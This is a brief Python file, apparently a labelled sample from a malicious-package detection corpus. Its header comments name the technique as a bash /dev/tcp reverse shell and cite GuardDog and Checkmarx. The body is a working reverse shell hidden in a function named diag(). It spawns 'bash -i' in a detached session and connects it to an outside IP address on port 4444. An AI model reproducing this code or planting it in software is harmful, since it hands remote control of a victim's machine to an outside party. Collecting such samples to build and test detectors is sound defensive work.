# technique: bash /dev/tcp one-liner through subprocess
# class: reverse-shell
# source: GuardDog "silent-process-execution"; bash /dev/tcp shells in Checkmarx write-ups
# declares: subprocess
import subprocess


def diag():
    subprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/91.219.236.18/4444 0>&1"], start_new_session=True)
